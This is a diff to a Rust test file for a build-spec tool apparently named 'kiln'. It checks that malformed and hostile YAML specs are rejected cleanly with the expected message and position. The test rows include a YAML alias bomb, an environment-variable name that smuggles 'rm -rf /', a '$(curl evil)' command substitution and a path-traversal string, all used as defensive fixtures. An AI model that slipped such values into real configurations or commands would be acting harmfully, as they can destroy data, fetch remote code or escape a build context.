@@ -1,10 +1,13 @@
-//! Hostile inputs, made at test time (positions: `:L:C` exact, `:L:` line only) (too big or too odd to keep as files): each is
-//! refused by `kiln check` with exit 2, a position and a message, without a panic,
-//! a hang or unbounded memory.
+//! Hostile specs, made at test time (too big or too odd to keep as files): each is
+//! refused by `kiln check` with exit 2, its expected message and position, and no panic,
+//! hang or unbounded memory. A row's position is the end of the `--> file:L:C` line:
+//! `:L:C` must match exactly, `:L:` matches the line whatever the column.
 
 use std::io::Write;
-use std::process::{Command, Stdio};
+use std::process::Stdio;
 use std::time::{Duration, Instant};
+
+use crate::common::{kiln, kiln_command};
 
 fn alias_bomb() -> Vec<u8> {
     let mut s = String::from("version: 1\nname: w\na0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
@@ -20,20 +23,47 @@ fn cases() -> Vec<(&'static str, Vec<u8>, &'static str, &'static str)> {
     vec![
         ("alias bomb", alias_bomb(), "budget breached", ":8:15"),
         ("deep flow nesting", format!("version: 1\nname: w\nx: {}{}\n", "[".repeat(100_000), "]".repeat(100_000)).into_bytes(), "recursion limit exceeded", ":3:"),
-        ("deep block nesting", format!("version: 1\nname: w\nx:\n{}", (1..2000).map(|i| format!("{}k{i}:\n", "  ".repeat(i))).collect::<String>()).into_bytes(), "", ":"),
+        // 1000 levels: just under the 1 MiB limit, so the nesting limit is what refuses it.
+        ("deep block nesting", format!("version: 1\nname: w\nx:\n{}", (1..1000).map(|i| format!("{}k{i}:\n", "  ".repeat(i))).collect::<String>()).into_bytes(), "invalid YAML: budget breached: Depth", ":67:129"),
         ("11 MB file", format!("version: 1\nname: w\npython: {{base: python:3}}\nenv:\n{}", (0..100_000).map(|i| format!("  K{i}: \"{}\"\n", "v".repeat(100))).collect::<String>()).into_bytes(), "more than the 1048576 allowed", ":1:1"),
         ("non-UTF-8", b"version: 1\nname: w\npython:\n  base: py\xc3\x28thon\n".to_vec(), "not valid UTF-8", ":4:11"),
         ("NUL byte in a string", b"version: 1\nname: w\npython: {base: python:3}\nenv: {A: \"x\\0y\"}\n".to_vec(), "NUL", ":4:"),
         ("only whitespace", b"  \n\t\n".to_vec(), "spec file is empty", ":1:1"),
         ("a bare scalar", b"42\n".to_vec(), "must be a mapping", ":1:1"),
         ("tabs for indentation", b"version: 1\nname: w\npython:\n\tbase: python:3\n".to_vec(), "invalid YAML", ":4:"),
-        ("an unclosed quote", b"version: 1\nname: \"w\npython: {}\n".to_vec(), "invalid YAML", ":"),
-        ("many documents", b"version: 1\nname: w\n---\nversion: 1\n".to_vec(), "", ":"),
+        ("an unclosed quote", b"version: 1\nname: \"w\npython: {}\n".to_vec(), "invalid YAML: unclosed quote", ":2:7"),
+        ("many documents", b"version: 1\nname: w\n---\nversion: 1\n".to_vec(), "invalid YAML: multiple YAML documents detected", ":4:1"),
         ("shell in an env name", b"version: 1\nname: w\npython: {base: python:3}\nenv: {\"A;rm -rf /\": x}\n".to_vec(), "invalid environment variable name", ":4:"),
         ("command substitution in a package", b"version: 1\nname: w\npython: {base: python:3}\nsystem: {build: [\"$(curl evil)\"]}\n".to_vec(), "invalid apt package name", ":4:"),
         ("a path escaping the context", b"version: 1\nname: w\npython: {base: python:3}\napp: {src: [\"app/../../etc\"]}\n".to_vec(), "would leave the build context", ":4:13"),
-        ("a huge uid", b"version: 1\nname: w\npython: {base: python:3}\nuser: {name: u, uid: 99999999999999999999}\n".to_vec(), "", ":4:"),
+        ("a huge uid", b"version: 1\nname: w\npython: {base: python:3}\nuser: {name: u, uid: 99999999999999999999}\n".to_vec(), "user.uid must be an integer", ":4:22"),
     ]
+}
+
+/// The first diagnostic's `error: ...` line.
+fn error_line(stderr: &str) -> &str {
+    stderr
+        .lines()
+        .find(|l| l.starts_with("error: "))
+        .unwrap_or("")
+}
+
+/// `file:L:C` of the first diagnostic's `--> ` line.
+fn first_position(stderr: &str) -> &str {
+    stderr
+        .lines()
+        .find_map(|l| l.trim_start().strip_prefix("--> "))
+        .unwrap_or("")
+}
+
+/// `want` is `:L:C` (exact) or `:L:` (that line, any column).
+fn at_position(at: &str, want: &str) -> bool {
+    match want.strip_suffix(':') {
+        Some(line) => at
+            .rsplit_once(':')
+            .is_some_and(|(head, col)| head.ends_with(line) && col.parse::<u32>().is_ok()),
+        None => at.ends_with(want),
+    }
 }
 
 #[test]
@@ -42,14 +72,18 @@ fn hostile_specs_are_refused_cleanly_and_quickly() {
     std::fs::create_dir_all(&dir).unwrap();
     let mut failures = vec![];
     for (name, bytes, message, position) in cases() {
+        // A row that could not fail (any message, any position) says nothing.
+        assert!(
+            !message.is_empty() && position.len() > 2 && position.matches(':').count() == 2,
+            "{name}: give the row its message and `:L:C` or `:L:` position"
+        );
         let path = dir.join(format!("{}.yaml", name.replace(' ', "-")));
         std::fs::File::create(&path)
             .unwrap()
             .write_all(&bytes)
             .unwrap();
         let start = Instant::now();
-        let mut child = Command::new(env!("CARGO_BIN_EXE_kiln"))
-            .arg("check")
+        let mut child = kiln_command(&["check"])
             .arg(&path)
             .stdout(Stdio::null())
             .stderr(Stdio::piped())
@@ -72,11 +106,8 @@ fn hostile_specs_are_refused_cleanly_and_quickly() {
             failures.push(format!("{name}: exit {:?}: {first}", status.code()));
         } else if stderr.contains("panicked") {
             failures.push(format!("{name}: panicked"));
-        } else if !stderr.contains(message)
-            || !stderr.lines().any(|l| {
-                l.contains("--> ")
-                    && (l.ends_with(position) || (position.ends_with(':') && l.contains(position)))
-            })
+        } else if !error_line(&stderr).contains(message)
+            || !at_position(first_position(&stderr), position)
         {
             failures.push(format!(
                 "{name}: wanted `{message}` at `{position}`, got: {first}"
@@ -87,14 +118,6 @@ fn hostile_specs_are_refused_cleanly_and_quickly() {
     }
     std::fs::remove_dir_all(&dir).ok();
     assert!(failures.is_empty(), "{}", failures.join("\n"));
-}
-
-fn kiln(args: &[&str]) -> std::process::Output {
-    Command::new(env!("CARGO_BIN_EXE_kiln"))
-        .args(args)
-        .current_dir(env!("CARGO_MANIFEST_DIR"))
-        .output()
-        .unwrap()
 }
 
 #[test]
@@ -112,6 +135,7 @@ fn cli_check_graph_schema() {
         String::from_utf8_lossy(&ok.stderr)
     );
     let graph = kiln(&["graph", "specs/worker.yaml"]);
+    assert!(graph.status.success());
     let dot = String::from_utf8(graph.stdout).unwrap();
     assert!(
         dot.starts_with("digraph kiln {") && dot.contains("uv install: core"),
